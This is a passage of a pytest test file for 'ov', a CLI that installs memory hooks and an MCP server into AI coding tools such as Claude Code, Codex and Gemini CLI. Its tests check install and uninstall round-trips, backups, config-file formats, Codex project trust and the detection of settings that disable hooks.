    other.write_bytes(_this_ov().read_bytes())  # the same script, but another file
    other.chmod(0o755)
    _path_with(monkeypatch, tmp_path / "bin", other)
    result = ov("install", "hooks", "--host", "claude", "--scope", "project", "--yes", "--json")
    assert result.json["result"]["portable"] is False and result.json["result"]["warnings"]
    assert install.hook_program(_ov_handlers(project / ".claude" / "settings.json")[0]) == str(_this_ov())


def test_user_scope_keeps_the_absolute_ov_even_when_path_finds_it(ov, user_home, tmp_path, monkeypatch):
    _path_with(monkeypatch, tmp_path / "bin", _this_ov())
    result = ov("install", "hooks", "--host", "claude", "--host", "opencode", "--yes", "--with-mcp", "--json")
    assert result.exit_code == 0, result.stderr
    report = result.json["result"]
    assert (report["command"], report["portable"], report["warnings"]) == ([str(_this_ov())], False, []) and not result.stderr
    assert all(install.hook_program(c) == str(_this_ov()) for c in _ov_handlers(user_home / ".claude" / "settings.json"))
    assert json.loads((user_home / ".claude.json").read_text())["mcpServers"]["ov"]["command"] == str(_this_ov())
    pinned = install.pinned_command([str(_this_ov())], {"OV_HOME": os.environ["OV_HOME"]})  # the hooks' store is the server's
    assert f"const OV = {json.dumps(pinned)};" in (user_home / ".config" / "opencode" / "plugins" / "ov-memory.js").read_text()


def test_reinstalling_moves_between_the_two_forms_without_doubling(ov, project, tmp_path, monkeypatch):
    settings = project / ".claude" / "settings.json"
    plugin = project / ".opencode" / "plugins" / "ov-memory.js"
    args = ("install", "hooks", "--host", "claude", "--host", "opencode", "--scope", "project", "--yes")
    _path_with(monkeypatch, tmp_path / "nobin", None)
    assert ov(*args).exit_code == 0
    absolute = settings.read_bytes()
    assert len(_ov_handlers(settings)) == 5 and all(install.hook_program(c) == str(_this_ov()) for c in _ov_handlers(settings))

    _path_with(monkeypatch, tmp_path / "bin", _this_ov())
    assert ov(*args).exit_code == 0  # over the absolute entries: replaced, not added to
    bare = settings.read_bytes()
    assert [install.hook_program(c) for c in _ov_handlers(settings)] == ["ov"] * 5
    assert json.loads(settings.read_text())["hooks"]["Stop"][0]["hooks"][0]["command"] == "make lint"
    assert '\nconst OV = ["ov"];\n' in plugin.read_text()
    again = ov(*args)
    assert again.exit_code == 0 and again.stdout.count("unchanged") == 2 and settings.read_bytes() == bare  # idempotent

    _path_with(monkeypatch, tmp_path / "nobin", None)
    assert ov(*args).exit_code == 0 and settings.read_bytes() == absolute  # and back


def test_uninstall_takes_out_bare_and_absolute_entries_alike(ov, project, tmp_path, monkeypatch):
    """A project file may hold ov's entries in both forms (one teammate's older install, another's
    newer one, merged in git): uninstall removes every one of them and keeps the team's own."""
    settings = project / ".claude" / "settings.json"
    _path_with(monkeypatch, tmp_path / "bin", _this_ov())
    assert ov("install", "hooks", "--host", "claude", "--scope", "project", "--yes").exit_code == 0
    data = json.loads(settings.read_text())
    data["hooks"]["SessionStart"].append({"hooks": [{"type": "command", "command": "/home/someone/proj/.venv/bin/ov hook claude session-start", "timeout": 30}]})
    data["hooks"]["Stop"][0]["hooks"].append({"type": "command", "command": "/home/someone/proj/.venv/bin/ov hook claude stop"})
    settings.write_text(json.dumps(data, indent=2))
    assert ov("uninstall", "hooks", "--scope", "project").exit_code == 0
    assert json.loads(settings.read_text()) == json.loads(PROJECT_CLAUDE)


def test_a_bare_install_over_a_teammates_absolute_one_replaces_it(ov, project, tmp_path, monkeypatch):
    settings = project / ".claude" / "settings.json"
    data = json.loads(settings.read_text())
    data["hooks"]["SessionStart"] = [{"hooks": [{"type": "command", "command": "/home/someone/proj/.venv/bin/ov hook claude session-start", "timeout": 30}]}]
    settings.write_text(json.dumps(data, indent=2))
    _path_with(monkeypatch, tmp_path / "bin", _this_ov())
    assert ov("install", "hooks", "--host", "claude", "--scope", "project", "--yes").exit_code == 0
    assert json.loads(settings.read_text())["hooks"]["SessionStart"] == [{"hooks": [{"type": "command", "command": "env OV_HOOK_SCOPE=project ov hook claude session-start", "timeout": 30}]}]


def test_doctor_checks_that_path_finds_a_project_entrys_bare_ov(ov, project, tmp_path, monkeypatch):
    # A user on the default home (~/.ov, under this test's HOME): a project's entry pins no OV_HOME,
    # and with one set here doctor would rightly say the server does not get it.
    monkeypatch.delenv("OV_HOME")
    _path_with(monkeypatch, tmp_path / "bin", _this_ov())
    assert ov("install", "hooks", "--host", "claude", "--host", "codex", "--scope", "project", "--yes", "--with-mcp").exit_code == 0
    checks = _checks(ov)
    assert checks["claude hooks (project)"]["status"] == "ok", checks["claude hooks (project)"]
    assert checks["claude mcp (project)"]["status"] == "ok" and "lists 15 tools" in checks["claude mcp (project)"]["detail"]  # started as `ov` from PATH

    _path_with(monkeypatch, tmp_path / "nobin", None)  # a teammate without ov on PATH
    checks = _checks(ov)
    for name in ("claude hooks (project)", "codex hooks (project)", "claude mcp (project)", "codex mcp (project)"):
        assert checks[name]["status"] == "warn" and "by name, and PATH has no ov" in checks[name]["detail"], checks[name]
        assert checks[name]["fix"].startswith("put ov on PATH")

    other = tmp_path / "other-bin"
    _path_with(monkeypatch, other, tmp_path / "stale-ov")
    (tmp_path / "stale-ov").write_text("#!/bin/sh\nexit 1\n")
    (tmp_path / "stale-ov").chmod(0o755)
    stale = _checks(ov)["claude hooks (project)"]
    assert stale["status"] == "warn" and f"ov (on PATH: {other / 'ov'}), not this ov" in stale["detail"] and stale["fix"].startswith("put this ov first on PATH")


def test_hooks_with_mcp_says_each_gate_once(ov, project, tmp_path, monkeypatch):
    _path_with(monkeypatch, tmp_path / "bin", _this_ov())
    out = ov("install", "hooks", "--host", "claude", "--scope", "project", "--yes", "--with-mcp").stdout
    assert out.count("holds back project hooks") == 1 and out.count("approve ov's once") == 1


_CODEX_EVENTS = ("session_start", "user_prompt_submit", "stop", "pre_compact", "session_end")


def _codex_hash(hooks: Path, event: str) -> str:
    """The hash Codex gives ov's handler of ``event`` (snake case) in ``hooks``, the first group's first."""
    from ov.hosts import gates

    native = {"session_start": "SessionStart", "user_prompt_submit": "UserPromptSubmit", "stop": "Stop", "pre_compact": "PreCompact", "session_end": "SessionEnd"}[event]
    group = json.loads(hooks.read_text())["hooks"][native][0]
    return gates.codex_hook_hash(event, group["hooks"][0], group.get("matcher"))


def _codex_note(result) -> str:
    assert result.exit_code == 0, result.stderr
    (note,) = [n for n in result.json["result"]["notes"] if n.startswith("codex")]
    return note


def test_a_codex_project_install_says_codex_runs_its_hooks_only_in_a_trusted_project(ov, project, monkeypatch):
    """Codex loads nothing of an untrusted project's .codex/: reviewing the hooks alone never made them run."""
    config = Path(os.environ["HOME"]) / ".codex" / "config.toml"
    note = _codex_note(ov("install", "hooks", "--host", "codex", "--scope", "project", "--yes", "--json"))
    assert "only in a trusted project" in note and f'[projects."{project}"] trust_level = "trusted" to {config}' in note
    assert "MCP servers" in note and "/hooks" in note and "--host codex --scope project --trust" in note  # what trust grants, and both ways
    dry = _codex_note(ov("install", "hooks", "--host", "codex", "--scope", "project", "--yes", "--trust", "--dry-run", "--json"))
    assert dry.startswith(f"codex    --trust would mark {project} trusted in {config}") and "reviewed" in dry and not config.exists()
    # Without the `codex` program, --trust says how to do both by hand.
    monkeypatch.setenv("PATH", str(project / "nobin"))
    by_hand = _codex_note(ov("install", "hooks", "--host", "codex", "--scope", "project", "--yes", "--trust", "--json"))
    assert "needs the `codex` program" in by_hand and f'[projects."{project}"]' in by_hand and not config.exists()


def test_a_codex_trust_that_fails_after_trusting_the_project_says_so(ov, project, monkeypatch, tmp_path):
    """--trust trusts the project, then records the reviews; when the second step failed, the note
    said only "could not record the review", and not that the project had been trusted."""
    from ov.hosts import gates

    config = Path(os.environ["HOME"]) / ".codex" / "config.toml"
    (tmp_path / "bin").mkdir()
    (tmp_path / "bin" / "codex").write_text("#!/bin/sh\nexit 1\n")
    (tmp_path / "bin" / "codex").chmod(0o755)
    monkeypatch.setenv("PATH", str(tmp_path / "bin"))

    def trust_then_fail(spec, binary, **_kw):
        config.parent.mkdir(parents=True, exist_ok=True)
        config.write_text(f'[projects."{project}"]\ntrust_level = "trusted"\n')
        raise RuntimeError("hooks/list timed out")

    monkeypatch.setattr(gates, "codex_trust", trust_then_fail)
    note = _codex_note(ov("install", "hooks", "--host", "codex", "--scope", "project", "--yes", "--trust", "--json"))
    assert note.startswith(f"codex    trusted the project {project} in {config}") and "could not record the review of ov's hooks (hooks/list timed out)" in note


def test_doctor_checks_a_codex_projects_trust_and_reads_its_reviews_from_the_users_config(ov, project):
    assert ov("install", "hooks", "--host", "codex", "--scope", "project", "--yes").exit_code == 0
    checks = _checks(ov)
    trust, review = checks["codex trust (project)"], checks["codex review (project)"]
    assert trust["status"] == "warn" and "does not trust" in trust["detail"] and "--scope project --trust" in trust["fix"]
    assert f'[projects."{project}"] trust_level = "trusted"' in trust["fix"]
    assert review["status"] == "warn" and review["fix"].startswith("ov install hooks --host codex --scope project --trust")
    hooks = project / ".codex" / "hooks.json"
    reviews = "".join(f'[hooks.state."{hooks}:{event}:0:0"]\ntrusted_hash = "{_codex_hash(hooks, event)}"\n' for event in _CODEX_EVENTS)
    (project / ".codex" / "config.toml").write_text(reviews)  # Codex ignores reviews in a project's own config
    user_config = Path(os.environ["HOME"]) / ".codex" / "config.toml"
    user_config.parent.mkdir(parents=True, exist_ok=True)
    user_config.write_text(f'[projects."{project}"]\ntrust_level = "trusted"\n')
    checks = _checks(ov)
    assert checks["codex trust (project)"]["status"] == "ok" and checks["codex review (project)"]["status"] == "warn"
    trusted = user_config.read_text()
    # A review of another hash (the handler as an install from another ov wrote it): Codex skips it.
    user_config.write_text(trusted + reviews.replace(_codex_hash(hooks, "stop"), "sha256:0"))
    review = _checks(ov)["codex review (project)"]
    assert review["status"] == "warn" and review["detail"] == "1 of ov's hooks changed since reviewed, so Codex skips them", review
    assert review["fix"].startswith("ov install hooks --host codex --scope project --trust")
    user_config.write_text(trusted + reviews)
    assert _checks(ov)["codex review (project)"]["status"] == "ok"
    # A project the user marked untrusted: doctor says so, and --trust does not overrule it.
    user_config.write_text(user_config.read_text().replace('trust_level = "trusted"', 'trust_level = "untrusted"'))
    untrusted = _checks(ov)["codex trust (project)"]
    assert untrusted["status"] == "warn" and f"marks {project} untrusted" in untrusted["detail"]
    before = user_config.read_text()
    note = _codex_note(ov("install", "hooks", "--host", "codex", "--scope", "project", "--yes", "--trust", "--json"))
    assert "is marked untrusted" in note and user_config.read_text() == before
    # The project's config, layered over the user's, may turn hooks off.
    (project / ".codex" / "config.toml").write_text("[features]\nhooks = false\n")
    off = _checks(ov)["codex review (project)"]
    assert off["status"] == "fail" and str(project / ".codex" / "config.toml") in off["detail"]


def test_a_hosts_own_switch_that_turns_hooks_off_is_named_at_install_and_by_doctor(ov, user_home, project):
    """Claude Code's "disableAllHooks" and Gemini CLI's hooksConfig run no hook of ov's: install
    said "installed" and doctor "ok", then "no hook has run yet", as for hooks that would run."""
    claude, gemini = user_home / ".claude" / "settings.json", user_home / ".gemini" / "settings.json"
    claude.write_text('{"disableAllHooks": true}\n')
    gemini.write_text('{\n  // off for now\n  "hooksConfig": {"enabled": false}\n}\n')
    notes = ov("install", "hooks", "--host", "claude", "--host", "gemini", "--yes", "--json").json["result"]["notes"]
    assert any(n.startswith("claude") and f'"disableAllHooks": true in {claude}' in n for n in notes), notes
    assert any(n.startswith("gemini") and '"hooksConfig": {"enabled": false}' in n for n in notes), notes
    checks = _checks(ov)
    for host, path in (("claude", claude), ("gemini", gemini)):
        check = checks[f"{host} hooks (user)"]
        assert check["status"] == "fail" and str(path) in check["detail"] and "skips them" in check["detail"], check
    # A later layer has the last word: the project's false turns Claude's hooks back on there.
    (project / ".claude" / "settings.local.json").write_text('{"disableAllHooks": false}')
    assert _checks(ov)["claude hooks (user)"]["status"] == "ok"
    # Gemini's list of disabled hooks, by name: one of ov's listed is named too.
    gemini.write_text('{"hooksConfig": {"disabled": ["lint", "ov-stop"]}}')
    assert ov("install", "hooks", "--host", "gemini", "--yes").exit_code == 0
    check = _checks(ov)["gemini hooks (user)"]
    assert check["status"] == "fail" and f"ov-stop is listed in hooksConfig.disabled of {gemini}" in check["detail"], check
    gemini.write_text('{"hooksConfig": {"disabled": ["lint"]}}')
    assert ov("install", "hooks", "--host", "gemini", "--yes").exit_code == 0
    assert _checks(ov)["gemini hooks (user)"]["status"] == "ok"


def test_an_administrators_switch_that_turns_hooks_off_is_named_too(ov, user_home, project, tmp_path, monkeypatch):
    """An administrator's settings turn every user's hooks off (Claude Code's managed settings,
    Gemini CLI's system settings, Codex's /etc/codex) and were not read: install said "installed",
    doctor "ok". Claude Code and Codex read them from fixed folders (`root` stands in for `/`);
    Gemini CLI from where its own variables say."""
    from ov.hosts import gates

    root = tmp_path / "system-root"
    assert ov("install", "hooks", "--host", "claude", "--host", "codex", "--yes").exit_code == 0
    claude, codex = install.spec("claude", "user", project), install.spec("codex", "user", project)
    assert gates.hooks_switched_off(claude, project, root=root) is None and gates.hooks_switched_off(codex, project, root=root) is None

    managed = gates.system_dir("claude", root)
    managed.mkdir(parents=True)
    (managed / "managed-settings.json").write_text('{"allowManagedHooksOnly": true}')
    assert gates.hooks_switched_off(claude, project, root=root) == f'"allowManagedHooksOnly": true in {managed / "managed-settings.json"}'
    # A drop-in comes last, over every layer of the user's: a project's false does not win over it.
    (managed / "managed-settings.json").write_text('{"allowManagedHooksOnly": false}')
    (managed / "managed-settings.d").mkdir()
    (managed / "managed-settings.d" / "50-hooks.json").write_text('{"disableAllHooks": true}')
    (project / ".claude").mkdir(exist_ok=True)
    (project / ".claude" / "settings.local.json").write_text('{"disableAllHooks": false}')
    assert gates.hooks_switched_off(claude, project, root=root) == f'"disableAllHooks": true in {managed / "managed-settings.d" / "50-hooks.json"}'
    (managed / "managed-settings.d" / "50-hooks.json").write_text('{"disableAllHooks": false}')
    (managed / "managed-settings.json").write_text('{"allowManagedHooksOnly": true}')
    (managed / "managed-settings.d" / "90-open.json").write_text('{"allowManagedHooksOnly": false}')
    assert gates.hooks_switched_off(claude, project, root=root) is None

    etc = gates.system_dir("codex", root)
    etc.mkdir(parents=True)
    (etc / "config.toml").write_text("[features]\nhooks = false\n")  # under the user's: their true wins
    user_config = user_home / ".codex" / "config.toml"
    user_config.write_text("[features]\nhooks = true\n")
    assert gates.hooks_switched_off(codex, project, root=root) is None
    (etc / "managed_config.toml").write_text("[features]\nhooks = false\n")  # over it
    assert gates.hooks_switched_off(codex, project, root=root) == f"[features] hooks = false in {etc / 'managed_config.toml'}"
    (etc / "managed_config.toml").unlink()
    (etc / "requirements.toml").write_text("allow_managed_hooks_only = true\n")
    assert gates.hooks_switched_off(codex, project, root=root) == f"allow_managed_hooks_only = true in {etc / 'requirements.toml'}"

    # Gemini CLI's system settings, over the user's: install and doctor name them.
    system, defaults = tmp_path / "gemini-system.json", tmp_path / "gemini-defaults.json"
    monkeypatch.setenv("GEMINI_CLI_SYSTEM_SETTINGS_PATH", str(system))
    monkeypatch.setenv("GEMINI_CLI_SYSTEM_DEFAULTS_PATH", str(defaults))
    system.write_text('{"hooksConfig": {"enabled": false}}')
    notes = ov("install", "hooks", "--host", "gemini", "--yes", "--json").json["result"]["notes"]
    assert any(n.startswith("gemini") and f'"hooksConfig": {{"enabled": false}} in {system}' in n for n in notes), notes
    check = _checks(ov)["gemini hooks (user)"]
    assert check["status"] == "fail" and str(system) in check["detail"], check
    # Its system defaults lie under the user's settings, which turn hooks on again.
    system.unlink()
    defaults.write_text('{"hooksConfig": {"enabled": false}}')
    settings = user_home / ".gemini" / "settings.json"
    text = settings.read_text()
    settings.write_text(text.replace("{", '{"hooksConfig": {"enabled": true}, ', 1))
    assert _checks(ov)["gemini hooks (user)"]["status"] == "ok"
    settings.write_text(text)
    assert defaults.name in _checks(ov)["gemini hooks (user)"]["detail"]


def test_ovs_server_in_a_codex_project_is_behind_the_same_trust(ov, project):
    """The project's .codex/config.toml, where `ov install mcp --scope project` puts the server, is
    as ignored by Codex as its hooks until the project is trusted."""
    config = Path(os.environ["HOME"]) / ".codex" / "config.toml"
    note = _codex_note(ov("install", "mcp", "--host", "codex", "--scope", "project", "--yes", "--json"))
    assert "only in a trusted project" in note and f'[projects."{project}"] trust_level = "trusted" to {config}' in note
    trust = _checks(ov)["codex trust (project)"]
    assert trust["status"] == "warn" and "ov's MCP server included" in trust["detail"] and "ov install hooks" not in trust["fix"]
    config.parent.mkdir(parents=True, exist_ok=True)
    config.write_text(f'[projects."{project}"]\ntrust_level = "trusted"\n')
    assert _checks(ov)["codex trust (project)"]["status"] == "ok"
    assert not ov("install", "mcp", "--host", "codex", "--scope", "project", "--yes", "--json").json["result"]["notes"]


@pytest.mark.parametrize(
    ("host", "text"),
    [
        ("claude", '{\n  "hooks": {\n    "UserPromptSubmit": [ ]\n  }\n}\n'),
        ("claude", "{ }"),
        ("claude", "{\n}\n"),
        ("claude", '{"hooks": { }, "note": "[ ] { }"}'),
        ("cursor", '{"version": 1, "hooks": {"stop": [\n]}}'),
        ("gemini", '{\n  // mine\n  "hooks": {\t},\n  "mcpServers": { }\n}'),
    ],
)
def test_an_empty_container_written_with_whitespace_comes_back_byte_for_byte(ov, user_home, host, text):
    """The in-place editor gives an emptied container back as `[]`: `"UserPromptSubmit": [ ]` came
    back `[]`, and the .ov.bak stayed beside it. The file as the user wrote it comes back instead."""
    settings = install.spec(host, "user", Path.cwd()).path
    settings.write_text(text)
    assert ov("install", "hooks", "--host", host, "--yes", "--with-mcp").exit_code == 0
    assert ov("uninstall", "hooks", "--host", host, "--with-mcp").exit_code == 0
    assert settings.read_text() == text
    assert not settings.with_name(settings.name + ".ov.bak").exists() and not list(_installs().glob("*"))


def test_hooks_with_mcp_in_one_file_keeps_both(ov, user_home):
    """Gemini keeps hooks and servers in one settings.json: the server's entry joins the hooks'
    (written apart, the second write dropped the hooks), and each uninstall takes out its own."""
    settings = user_home / ".gemini" / "settings.json"
    assert ov("install", "hooks", "--host", "gemini", "--yes", "--with-mcp").exit_code == 0
    text = settings.read_text()
    assert "ov hook gemini session-start" in text and '"mcpServers"' in text and "// my Gemini settings" in text
    assert _checks(ov)["gemini hooks (user)"]["status"] == "ok"
    assert ov("install", "hooks", "--host", "gemini", "--yes", "--with-mcp").exit_code == 0 and settings.read_text() == text
    assert ov("uninstall", "hooks", "--host", "gemini").exit_code == 0
    assert "ov hook gemini" not in settings.read_text() and '"mcpServers"' in settings.read_text()
    assert ov("uninstall", "mcp", "--host", "gemini").exit_code == 0
    assert settings.read_text() == GEMINI_SETTINGS and not (settings.parent / "settings.json.ov.bak").exists()


@pytest.mark.parametrize("first", ["hooks", "mcp"])
def test_a_folder_ov_made_for_two_files_goes_with_the_last_uninstall(ov, user_home, first):
    """Codex's hooks.json and config.toml share the .codex/ the first install made: uninstalling
    the hooks before the server left the folder empty for good (only the first receipt named it)."""
    codex = user_home / ".codex"
    assert not codex.exists()
    assert ov("install", "hooks", "--host", "codex", "--yes", "--with-mcp").exit_code == 0
    assert (codex / "hooks.json").exists() and (codex / "config.toml").exists()
    second = "mcp" if first == "hooks" else "hooks"
    assert ov("uninstall", first, "--host", "codex").exit_code == 0
    assert codex.exists()
    assert ov("uninstall", second, "--host", "codex").exit_code == 0
    assert not codex.exists()


def _installs() -> Path:
    return Path(os.environ["OV_HOME"]) / "installs"


def _where(scope: str, home: Path, project: Path) -> tuple[Path, list[str]]:
    """The folder a scope's files go in, and the command-line flags that pick it."""
    return (home, []) if scope == "user" else (project, ["--scope", "project"])


@pytest.mark.parametrize("scope", ["user", "project"])
@pytest.mark.parametrize("first", ["hooks", "mcp"])
@pytest.mark.parametrize("one_run", [True, False], ids=["with-mcp", "two-installs"])
def test_a_folder_ov_made_for_hooks_and_server_in_one_file_goes_with_the_last_uninstall(ov, user_home, project, scope, first, one_run):
    """Gemini's hooks and server share settings.json: the hooks receipt named the folder ov made,
    and uninstalling the hooks first (the file still held the server) dropped it with the receipt."""
    root, flags = _where(scope, user_home, project)
    shutil.rmtree(user_home / ".gemini")
    before = _tree(root)
    if one_run:
        assert ov("install", "hooks", "--host", "gemini", "--yes", "--with-mcp", *flags).exit_code == 0
    else:
        assert ov("install", "hooks", "--host", "gemini", "--yes", *flags).exit_code == 0
        assert ov("install", "mcp", "--host", "gemini", "--yes", *flags).exit_code == 0
    assert '"mcpServers"' in (root / ".gemini" / "settings.json").read_text()
    second = "mcp" if first == "hooks" else "hooks"
    assert ov("uninstall", first, "--host", "gemini", *flags).exit_code == 0
    assert (root / ".gemini" / "settings.json").exists()
    assert ov("uninstall", second, "--host", "gemini", *flags).exit_code == 0
    assert _tree(root) == before and not _installs().exists()


@pytest.mark.parametrize("scope", ["user", "project"])
@pytest.mark.parametrize("first", ["hooks", "mcp"])
def test_hooks_and_server_installed_apart_give_one_file_back_and_leave_no_backup(ov, user_home, project, scope, first):
    """The server joining the hooks in one file later overwrote the backup with the file holding
    ov's hooks; a project's backups (one per receipt) stayed in ov's home for good."""
    root, flags = _where(scope, user_home, project)
    settings = root / ".gemini" / "settings.json"
    settings.parent.mkdir(exist_ok=True)
    settings.write_text(GEMINI_SETTINGS)
    assert ov("install", "hooks", "--host", "gemini", "--yes", *flags).exit_code == 0
    assert ov("install", "mcp", "--host", "gemini", "--yes", *flags).exit_code == 0
    (backup,) = [*_installs().glob("*.bak"), *settings.parent.glob("*.ov.bak")]
    assert backup.read_text() == GEMINI_SETTINGS  # the file before ov's first write, not after the hooks went in
    second = "mcp" if first == "hooks" else "hooks"
    assert ov("uninstall", first, "--host", "gemini", *flags).exit_code == 0
    assert ov("uninstall", second, "--host", "gemini", *flags).exit_code == 0
    assert settings.read_text() == GEMINI_SETTINGS and sorted(p.name for p in settings.parent.iterdir()) == ["settings.json"]
    assert not _installs().exists()


def test_a_backup_is_the_file_before_ovs_first_install_when_another_ov_installs_again(ov, user_home, tmp_path, monkeypatch):
    """An install from another `ov` path (a link, a moved virtualenv) overwrote the backup with the
    file holding the first ov's hooks, and it stayed after the file came back as it was."""
    settings = user_home / ".claude" / "settings.json"
    backup = settings.with_name("settings.json.ov.bak")
    assert ov("install", "hooks", "--host", "claude", "--yes").exit_code == 0
    assert backup.read_text() == CLAUDE_SETTINGS
    linked = tmp_path / "elsewhere" / "bin" / "ov"
    linked.parent.mkdir(parents=True)
    linked.symlink_to(_this_ov())
    monkeypatch.setattr(sys, "argv", [str(linked)])  # as the console script started through the link sees itself
    assert ov("install", "hooks", "--host", "claude", "--yes").exit_code == 0
    assert all(install.hook_program(c) == str(linked) for c in _ov_handlers(settings))
    assert backup.read_text() == CLAUDE_SETTINGS
    assert ov("uninstall", "hooks").exit_code == 0
    assert settings.read_text() == CLAUDE_SETTINGS and not backup.exists()


def test_a_projects_backup_is_the_file_before_ovs_first_install_when_the_entries_change_form(ov, project, tmp_path, monkeypatch):
    settings = project / ".claude" / "settings.json"
    args = ("install", "hooks", "--host", "claude", "--scope", "project", "--yes")
    _path_with(monkeypatch, tmp_path / "nobin", None)
    assert ov(*args).exit_code == 0  # the absolute ov
    _path_with(monkeypatch, tmp_path / "bin", _this_ov())
    assert ov(*args).exit_code == 0  # then a bare ov
    (backup,) = _installs().glob("*.bak")
    assert backup.read_text() == PROJECT_CLAUDE
    assert ov("uninstall", "hooks", "--scope", "project").exit_code == 0
    assert settings.read_text() == PROJECT_CLAUDE and not _installs().exists()


@pytest.mark.parametrize("command", [("install", "hooks", "--with-mcp", "--uninstall"), ("uninstall", "hooks", "--with-mcp")])
def test_uninstalling_hooks_with_mcp_takes_the_server_out_too(ov, user_home, command):
    """`ov install hooks --with-mcp --uninstall` removed the hooks and left the servers, exit 0."""
    hosts = ("--host", "claude", "--host", "gemini", "--host", "codex")
    before = _tree(user_home)
    assert ov("install", "hooks", *hosts, "--yes", "--with-mcp").exit_code == 0
    installed = _tree(user_home)
    dry = ov(*command, *hosts, "--dry-run")
    assert dry.exit_code == 0 and "-[mcp_servers.ov]" in dry.stdout and '-  "mcpServers": {' in dry.stdout and _tree(user_home) == installed
    removed = ov(*command, *hosts)
    assert removed.exit_code == 0
    assert _tree(user_home) == before and not _installs().exists()
    # Gemini's hooks and server are one file: said once (it came twice, "gemini removed: ...")
    assert removed.stdout.count(str(user_home / ".gemini" / "settings.json")) == 1, removed.stdout


@pytest.mark.parametrize(
    ("host", "text"),
    [("claude", ""), ("claude", "\n"), ("gemini", ""), ("gemini", "  \n\n"), ("gemini", "// nothing set yet\n")],
)
def test_a_file_that_held_no_value_comes_back_as_it_was(ov, user_home, host, text):
    """An empty settings.json came back as `{}` with an empty `.ov.bak` beside it."""
    settings = user_home / f".{host}" / "settings.json"
    settings.write_text(text)
    assert ov("install", "hooks", "--host", host, "--yes", "--with-mcp").exit_code == 0
    assert ov("install", "hooks", "--host", host, "--yes").exit_code == 0  # a re-install keeps what the file held
    assert install.is_ours(json.loads(re.sub(r"^//.*", "", settings.read_text()))["hooks"]["SessionStart"][0]["hooks"][0]["command"])
    assert ov("uninstall", "hooks", "--host", host, "--with-mcp").exit_code == 0
    assert settings.read_bytes() == text.encode() and sorted(p.name for p in settings.parent.iterdir()) == ["settings.json"]
    if host == "claude":
        assert not (user_home / ".claude.json").exists()  # the server's file, which ov made


def test_an_empty_file_edited_meanwhile_keeps_the_users_edit(ov, user_home):
    settings = user_home / ".claude" / "settings.json"
    settings.write_text("")
    assert ov("install", "hooks", "--host", "claude", "--yes").exit_code == 0
    settings.write_text(settings.read_text().replace("{", '{\n  "model": "opus",', 1))
    assert ov("uninstall", "hooks").exit_code == 0
    assert json.loads(settings.read_text()) == {"model": "opus"}


def test_claude_config_dir_holds_the_users_servers_as_it_holds_the_hooks(ov, user_home, tmp_path, monkeypatch):
    """With $CLAUDE_CONFIG_DIR set, Claude Code reads a user's servers from the .claude.json in
    it (`claude mcp add -s user` writes there): ov wrote ~/.claude.json, unread, and doctor said ok."""
    config_dir = tmp_path / "claude-config"
    config_dir.mkdir()
    monkeypatch.setenv("CLAUDE_CONFIG_DIR", str(config_dir))
    assert ov("install", "hooks", "--host", "claude", "--yes", "--with-mcp").exit_code == 0
    assert (config_dir / "settings.json").exists() and json.loads((config_dir / ".claude.json").read_text())["mcpServers"]["ov"]["args"] == ["mcp"]
    assert not (user_home / ".claude.json").exists()
    check = _checks(ov)["claude mcp (user)"]
    assert check["status"] == "ok" and str(config_dir / ".claude.json") in check["detail"]
    assert ov("uninstall", "mcp", "--host", "claude").exit_code == 0 and not (config_dir / ".claude.json").exists()


OPENCODE_TRAILING = '{\n  // OpenCode\n  "mcp": {\n    "other": {"type": "local", "command": ["x"], "enabled": false},\n  },\n}\n'


@pytest.mark.parametrize("name", ["opencode.json", "opencode.jsonc"])
def test_opencodes_trailing_commas_are_read_and_the_file_comes_back(ov, user_home, name):
    """OpenCode reads a comma after the last item in both of its files; ov refused them."""
    from ov.hosts import jsonc

    config = user_home / ".config" / "opencode" / name
    config.parent.mkdir(parents=True)
    config.write_text(OPENCODE_TRAILING)
    assert ov("install", "mcp", "--host", "opencode", "--yes").exit_code == 0
    text = config.read_text()
    assert jsonc.parse(text, comments=True, trailing_commas=True).value()["mcp"]["ov"]["command"][1:] == ["mcp"]
    assert text.startswith(OPENCODE_TRAILING[: OPENCODE_TRAILING.index("  },")])  # the user's lines, as they were
    assert _checks(ov)["opencode mcp (user)"]["status"] == "ok"
    assert ov("uninstall", "mcp").exit_code == 0
    assert config.read_text() == OPENCODE_TRAILING and sorted(p.name for p in config.parent.iterdir()) == [name]


@pytest.mark.parametrize(("host", "file"), [("claude", ".claude.json"), ("gemini", ".gemini/settings.json")])
def test_a_trailing_comma_is_refused_where_the_host_refuses_it(ov, user_home, host, file):
    """Claude Code calls such a .claude.json corrupted, Gemini CLI stops at such a settings.json."""
    path = user_home / file
    text = '{\n  "mcpServers": {"other": {"command": "x"}},\n}\n'
    path.write_text(text)
    result = ov("install", "mcp", "--host", host, "--yes")
    assert result.exit_code == 2 and "line 2, column 44: a comma" in result.stderr and path.read_text() == text


# --- the two receipts of one file, --with-mcp and CLAUDE_CONFIG_DIR meet the ownership check and Codex's table


@pytest.mark.parametrize("command", [("install", "hooks", "--with-mcp", "--uninstall"), ("uninstall", "hooks", "--with-mcp")])
def test_uninstalling_hooks_with_mcp_leaves_a_users_own_server_named_ov_in_the_shared_file(ov, user_home, command):
    """Gemini's hooks and servers share settings.json: `--with-mcp` plans the server's removal on
    what the hooks' removal writes. A server of the user's own named `ov` there stays, the hooks
    go, and the file is as it was before ov's hooks came in."""
    settings = user_home / ".gemini" / "settings.json"
    text = GEMINI_SETTINGS.replace("{", '{\n  "mcpServers": {"ov": {"command": "node", "args": ["ov.js", "mcp"]}},', 1)
    settings.write_text(text)
    refused = ov("install", "hooks", "--host", "gemini", "--yes", "--with-mcp")
    assert refused.exit_code == 2 and "is not ov's" in refused.stderr and settings.read_text() == text  # the hooks did not go in either
    assert ov("install", "hooks", "--host", "gemini", "--yes").exit_code == 0
    before = _tree(user_home)
    dry = ov(*command, "--host", "gemini", "--dry-run")
    assert dry.exit_code == 0 and _tree(user_home) == before
    assert "-            \"command\": " in dry.stdout and '-  "mcpServers"' not in dry.stdout
    assert dry.stdout.count("+++ ") == 1 and f"{settings}: no change" in dry.stdout  # the server's change is none of its own
    removed = ov(*command, "--host", "gemini", "--json")
    assert removed.exit_code == 0
    assert f"the MCP server mcpServers.ov in {settings} is not ov's (it runs 'node ov.js mcp'): left as it is" in removed.json["result"]["notes"]
    assert settings.read_text() == text and sorted(p.name for p in settings.parent.iterdir()) == ["settings.json"]
    assert not _installs().exists()


def test_json_lists_each_file_once_with_what_changed_in_it(ov, user_home):
    """(found by a review: Gemini's settings.json came twice in `--with-mcp --json`, once for the
    hooks and once for the server, each with the whole file's diff)"""
    settings = str(user_home / ".gemini" / "settings.json")
